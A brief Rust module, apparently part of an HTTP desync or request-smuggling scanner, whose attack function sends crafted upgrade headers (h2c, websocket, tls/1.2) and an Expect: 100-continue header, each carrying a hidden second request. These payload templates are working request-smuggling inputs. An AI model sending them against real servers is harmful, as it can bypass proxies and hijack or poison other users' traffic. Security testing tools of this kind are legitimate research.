//! Tries: to switch the connection to a protocol that is judged less.

use super::connections::*;

pub async fn attack(scene: &Scene) {
    hidden_requests(scene, &[
        Form::Odd("connection: upgrade, http2-settings\r\nupgrade: h2c\r\nhttp2-settings: AAMAAABkAAQAAP__\r\ncontent-length: 0\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{hidden}"),
        Form::Ambiguous("connection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\ncontent-length: {length}\r\n\r\n{hidden}"),
        Form::Ambiguous("connection: upgrade\r\nupgrade: tls/1.2\r\ncontent-length: {length}\r\n\r\n{hidden}"),
        Form::Ambiguous("expect: 100-continue\r\ncontent-length: {length}\r\n\r\n{hidden}"),
    ])
    .await;
}
